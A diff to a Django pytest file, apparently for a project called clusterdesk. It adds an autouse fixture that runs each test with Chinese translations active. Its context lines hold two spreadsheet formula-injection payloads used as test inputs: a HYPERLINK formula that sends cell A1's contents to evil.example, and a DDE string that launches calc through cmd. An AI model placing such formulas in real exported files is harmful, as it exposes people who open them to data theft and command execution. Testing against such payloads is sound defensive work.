@@ -26,6 +26,15 @@ from clusterdesk.projects.models import Project
 
 pytestmark = pytest.mark.django_db
 
+
+@pytest.fixture(autouse=True)
+def _chinese():
+    """Messages in Chinese, whatever language an earlier request left active in this thread."""
+    from django.utils import translation
+
+    with translation.override("zh-hans"):
+        yield
+
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
 DDE = "=cmd|' /C calc'!A0"
 
